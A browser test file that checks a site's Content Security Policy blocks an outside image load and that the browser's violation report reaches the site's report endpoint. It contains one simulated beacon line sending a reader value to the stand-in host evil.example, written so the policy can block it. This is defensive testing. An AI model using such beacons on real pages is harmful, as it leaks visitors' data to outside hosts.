import { readViolations } from '#server/csp-reports/read-violations.ts'
import { expect, test } from './site-test.ts'

test.use({ expectedErrors: /evil\.example/ })

test('a browser reports what a page’s policy blocked, and the site accepts the report', async ({ page }) => {
  // Chromium ignores report-to over plain HTTP; without the directive it falls back to report-uri, as older browsers
  // do.
  await page.route('/blog?*', async (route) => {
    const response = await route.fetch()
    const headers = response.headers()
    const policy = headers['content-security-policy']?.replace('; report-to csp', '') ?? ''
    await route.fulfill({ response, headers: { ...headers, 'content-security-policy': policy } })
  })
  await page.goto('/blog?category=none')
  const answered = page.waitForResponse('/csp-reports')
  await page.evaluate(() => {
    new Image().src = 'https://evil.example/pixel.png?reader=ada'
  })
  const answer = await answered
  expect(answer.status()).toBe(204)
  expect(readViolations(answer.request().postData() ?? '')).toEqual([
    { directive: 'img-src', blocked: 'https://evil.example', path: '/blog' },
  ])
})
